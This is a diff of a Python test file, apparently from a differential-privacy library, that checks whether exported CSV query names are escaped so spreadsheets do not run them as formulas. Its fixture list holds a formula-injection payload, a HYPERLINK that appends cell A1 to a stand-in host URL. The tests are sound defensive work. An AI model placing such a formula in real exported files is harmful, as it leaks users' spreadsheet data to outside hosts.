@@ -13,7 +13,6 @@ from lrm.planning.plan.planner import plan
 from lrm.queries.sql import sql
 from lrm.queries.workload import Workload
 from lrm.releases import release
-from lrm.views.releases import export_csv
 
 FORMULAS = [
     '=HYPERLINK("http://x.example?"&A1)',
@@ -28,7 +27,7 @@ FORMULAS = [
 
 def rows_of(workload, path):
     answered = release(plan(workload, "noise-on-data"), np.ones(workload.shape[1]), epsilon=1)
-    export_csv(answered, path)
+    answered.write(path)
     with path.open(newline="", encoding="utf-8") as file:
         return list(csv.reader(file))
 
@@ -37,8 +36,8 @@ def test_names_of_queries_are_no_formulas(tmp_path):
     named = Workload(np.eye(len(FORMULAS)), names=FORMULAS)
     rows = rows_of(named, tmp_path / "answers.csv")
     for row, name in zip(rows[1:], FORMULAS, strict=True):
-        assert row[:2] == [f"'{name}"] * 2
-        assert all(np.isfinite([float(cell) for cell in row[2:]]))  # numbers stay numbers
+        assert row[:3] == [f"'{FORMULAS[0]}", *[f"'{name}"] * 2]
+        assert all(np.isfinite([float(cell) for cell in row[3:]]))  # numbers stay numbers
 
 
 def test_labels_of_groups_and_titles_are_no_formulas(tmp_path):
